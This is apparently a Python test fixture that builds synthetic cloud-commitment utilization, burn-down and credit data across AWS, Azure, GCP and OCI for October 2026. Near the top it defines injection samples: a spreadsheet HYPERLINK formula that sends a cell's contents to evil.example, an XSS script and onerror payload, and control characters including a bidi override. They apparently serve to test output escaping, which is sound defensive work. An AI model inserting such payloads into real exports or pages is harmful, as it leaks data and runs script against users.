"""Commitments of every layer over October 2026, with dips at night and on weekends."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

START = datetime(2026, 10, 1, tzinfo=UTC)
END = datetime(2026, 11, 1, tzinfo=UTC)
AS_OF = datetime(2026, 11, 3, 6, 0, tzinfo=UTC)
HOUR = timedelta(hours=1)
DAY = timedelta(days=1)
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SCRIPT = "<script>document.title='pwned'</script><img src=x onerror=\"document.title='pwned'\">"
CONTROL = "tool\x1b[31m\x00red\x07\u202eevil"
LONG = "arn:cloud:sagemaker:eu-west-1:123456789012:endpoint/" + "inference-endpoint-" * 30 + "end"
PLAN = "arn:cloud:savingsplans::123456789012:savingsplan/5f8e1c2a-77aa-4c1b-9a55-0d1f2e3a4b5c"
RESERVATION = "/providers/Capacity/reservationOrders/9c1d/reservations/gpu-h100-weu"
SPEND = "cud-spend-europe-west4"
PTU = "ptu-large-language-300"
DAILY = "throughput-daily-eur"
LOT = "universal-credits-2026"
TPU = "tpu-v6e-sales-contract"
AGREEMENT = "enterprise-agreement-2026"
UNKNOWN_PLAN = "plan-without-unused-rows"


def dec(value: str | int) -> Decimal:
    return Decimal(value)


def hourly_share(hour: int) -> Decimal:
    """Share of an hour's commitment that is used: full on working hours, dips at night and once."""
    day, of_day = divmod(hour, 24)
    if day == 17:
        return dec("0.20")  # an outage on the 18th
    if day % 7 in (2, 3):  # 3 October 2026 is a Saturday
        return dec("0.70")
    return dec("0.90") if of_day < 6 else dec("1")


def hourly(
    commitment: str, provider: str, rate: str, currency: str, unit: str
) -> list[dict[str, Any]]:
    rows = []
    for hour in range(31 * 24):
        used = dec(rate) * hourly_share(hour)
        rows.append(
            {
                "commitment_id": commitment,
                "provider": provider,
                "interval_start": START + hour * HOUR,
                "interval_end": START + (hour + 1) * HOUR,
                "unit": unit,
                "committed_quantity": dec(rate),
                "used_quantity": used,
                "unused_quantity": dec(rate) - used,
                "overage_quantity": dec(0),
                "currency": currency,
                "committed_cost": dec(rate),
                "used_cost": used,
                "unused_cost": dec(rate) - used,
                "utilization": used / dec(rate),
                "provisional": True,
            }
        )
    return rows


def daily() -> list[dict[str, Any]]:
    rows = []
    for day in range(31):
        used = dec(240) if day % 5 else dec(120)
        rows.append(
            {
                "commitment_id": DAILY,
                "provider": "azure",
                "interval_start": START + day * DAY,
                "interval_end": START + (day + 1) * DAY,
                "unit": "Unit-Hours",
                "committed_quantity": dec(240),
                "used_quantity": used,
                "unused_quantity": dec(240) - used,
                "overage_quantity": dec(0),
                "currency": "EUR",
                "committed_cost": dec("480"),
                "used_cost": used * 2,
                "unused_cost": dec(480) - used * 2,
                "utilization": used / dec(240),
                "provisional": False,
            }
        )
    return rows


def unknown_hours() -> list[dict[str, Any]]:
    return [
        {
            "commitment_id": UNKNOWN_PLAN,
            "provider": "aws",
            "interval_start": START + day * DAY,
            "interval_end": START + (day + 1) * DAY,
            "unit": "USD",
            "currency": "USD",
            "used_cost": dec(0),
            "provisional": True,
            "reason": "Used rows without a quantity",
        }
        for day in range(31)
    ]


def utilization_rows() -> list[dict[str, Any]]:
    return (
        hourly(PLAN, "aws", "10.00", "USD", "USD")
        + hourly(RESERVATION, "azure", "8", "EUR", "GPU-Hours")
        + hourly(SPEND, "gcp", "4.125", "EUR", "EUR")
        + hourly(PTU, "azure", "300", "USD", "Unit-Hours")
        + daily()
        + unknown_hours()
    )


def commitment_rows(utilization: list[dict[str, Any]]) -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = []
    for name in (PLAN, RESERVATION, SPEND, PTU, DAILY):
        mine = [row for row in utilization if row["commitment_id"] == name]
        sums = {
            f"{what}_{kind}": sum((row[f"{what}_{kind}"] for row in mine), dec(0))
            for what in ("committed", "used", "unused")
            for kind in ("quantity", "cost")
        }
        used, unused = sums["used_quantity"], sums["unused_quantity"]
        rows.append(
            {
                **{key: mine[0][key] for key in ("commitment_id", "provider", "unit", "currency")},
                **sums,
                "name": f"{name[:20]} plan",
                "category": "Spend" if name in (PLAN, SPEND) else "Usage",
                "type": "Compute plan",
                "layer": "benefit",
                "quantity_basis": "commitment_rate",
                "overage_quantity": dec(0),
                "not_covered_quantity": dec(0),
                "utilization": (used / (used + unused)).quantize(dec("1e-18")),
                "status": "complete",
                "provisional": name != DAILY,
            }
        )
    rows.append(
        {
            "commitment_id": UNKNOWN_PLAN,
            "provider": "aws",
            "layer": "benefit",
            "category": "Spend",
            "unit": "USD",
            "currency": "USD",
            "used_cost": dec(0),
            "status": "partial",
            "provisional": True,
            "reason": "four Used rows without a quantity, no Unused rows: utilization is unknown",
        }
    )
    term = {"provisional": True, "status": "complete", "expired": dec(0), "category": "Spend"}
    rows += [
        {
            **term,
            "commitment_id": LOT,
            "provider": "oci",
            "layer": "funding",
            "unit": "USD",
            "currency": "USD",
            "opening": dec("61000"),
            "drawn": dec("18650.25"),
            "remaining": dec("42349.75"),
            "expires_at": datetime(2026, 12, 31, tzinfo=UTC),
        },
        {
            **term,
            "commitment_id": TPU,
            "provider": "gcp",
            "layer": "funding",
            "unit": "Credits",
            "currency": "USD",
            "opening": dec("500000"),
            "drawn": dec("120000.5"),
            "remaining": dec("379999.5"),
            "expires_at": datetime(2027, 6, 30, tzinfo=UTC),
        },
        {
            **term,
            "commitment_id": AGREEMENT,
            "provider": "aws",
            "layer": "agreement",
            "unit": "USD",
            "currency": "USD",
            "drawn": dec("91234.56"),
            "expires_at": datetime(2027, 1, 1, tzinfo=UTC),
            "reason": "the contract states no committed figure",
        },
    ]
    return rows


def burn_down_rows() -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = []
    for day in range(31):
        at = START + day * DAY
        share = sum(hourly_share(day * 24 + hour) for hour in range(24))
        for name, provider, rate, unit in (
            (PLAN, "aws", "10", "USD"),
            (RESERVATION, "azure", "8", "GPU-Hours"),
            (SPEND, "gcp", "4.125", "EUR"),
            (PTU, "azure", "300", "Unit-Hours"),
        ):
            used = dec(rate) * share
            rows.append(
                {
                    "commitment_id": name,
                    "provider": provider,
                    "day": at,
                    "unit": unit,
                    "committed_quantity": dec(rate) * 24,
                    "used_quantity": used,
                    "unused_quantity": dec(rate) * 24 - used,
                }
            )
        rows.append(
            {
                "commitment_id": LOT,
                "provider": "oci",
                "day": at,
                "unit": "USD",
                "used_quantity": dec(600),
                "remaining": dec(61000) - 600 * (day + 1),
            }
        )
        rows.append(
            {
                "commitment_id": TPU,
                "provider": "gcp",
                "day": at,
                "unit": "Credits",
                "used_quantity": dec(3871),
                "remaining": dec(500000) - 3871 * (day + 1),
            }
        )
    return rows


def credit_rows() -> list[dict[str, Any]]:
    return [
        {
            "lot_id": LOT,
            "commitment_id": LOT,
            "provider": "oci",
            "unit": "USD",
            "granted": dec(120000),
            "drawn": dec("77650.25"),
            "expired": dec(0),
            "remaining": dec("42349.75"),
            "expires_at": datetime(2026, 12, 31, tzinfo=UTC),
            "currency": "USD",
        },
        {
            "lot_id": TPU,
            "commitment_id": TPU,
            "provider": "gcp",
            "unit": "Credits",
            "granted": dec(600000),
            "drawn": dec("220000.5"),
            "expired": dec(0),
            "remaining": dec("379999.5"),
            "expires_at": datetime(2027, 6, 30, tzinfo=UTC),
            "compute_unit": "TPU-Chip-Hours",
            "compute_units_per_credit": dec("0.5"),
            "cost_per_credit": dec("1.35"),
            "currency": "USD",
        },
        {
            "lot_id": "promo-2025",
            "provider": "gcp",
            "unit": "EUR",
            "granted": dec(5000),
            "expires_at": datetime(2026, 11, 30, tzinfo=UTC),
            "currency": "EUR",
        },
    ]
